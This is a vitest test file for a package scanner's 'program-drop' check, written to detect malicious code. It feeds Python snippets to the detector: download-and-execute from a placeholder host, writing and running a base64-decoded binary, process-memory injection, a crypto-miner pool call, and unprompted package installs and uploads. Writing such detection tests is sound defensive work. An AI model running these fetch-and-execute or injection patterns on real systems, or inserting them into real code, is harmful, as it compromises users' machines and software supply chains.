import { describe, expect, it } from 'vitest';
import { codeFindings } from '../../../../test/builders/code-findings.ts';

describe('checks/package/program-drop', () => {
  it.each([
    [
      'downloaded-program',
      "import urllib.request, os\nurllib.request.urlretrieve('https://host.invalid/x', '/tmp/x')\nos.system('sh /tmp/x')\nos.execv('/tmp/x', [])",
    ],
    [
      'downloaded-program-later',
      "import urllib.request, os\ndef go():\n  urllib.request.urlretrieve('https://host.invalid/x', '/tmp/x')\n  os.execv('/tmp/x', [])",
    ],
    [
      'unpacked-program',
      "import base64, os\nopen('/tmp/x', 'wb').write(base64.b64decode('f0VMRgIBAQA='))\nos.execv('/tmp/x', [])",
    ],
    [
      'unpacked-program-later',
      "import base64, os\ndef go():\n  open('/tmp/x', 'wb').write(base64.b64decode('f0VMRgIBAQA='))\n  os.execv('/tmp/x', [])",
    ],
    [
      'machine-code',
      'import ctypes\ndef go(p, b): ctypes.windll.kernel32.WriteProcessMemory(p, 0, b, len(b), 0)',
    ],
    [
      'mining',
      "import subprocess\ndef go(): subprocess.run(['m', '-o', 'stratum+tcp://pool.host.invalid:1'])",
    ],
    ['installs-packages', "import os\nos.system('pip install colorkit-helper')"],
    ['publishes-packages', "import os\nos.system('twine upload dist/*')"],
  ])('reports %s in %j', async (rule, text) => {
    expect(await codeFindings(text, { check: 'program-drop' })).toContain(rule);
  });

  it.each([
    "import subprocess\ndef build(): subprocess.run(['cmake', '--build', '.'])",
    "def install():\n  import subprocess, sys\n  subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])",
  ])('stays silent about %j', async (text) => {
    expect(await codeFindings(text, { check: 'program-drop' })).toEqual([]);
  });
});
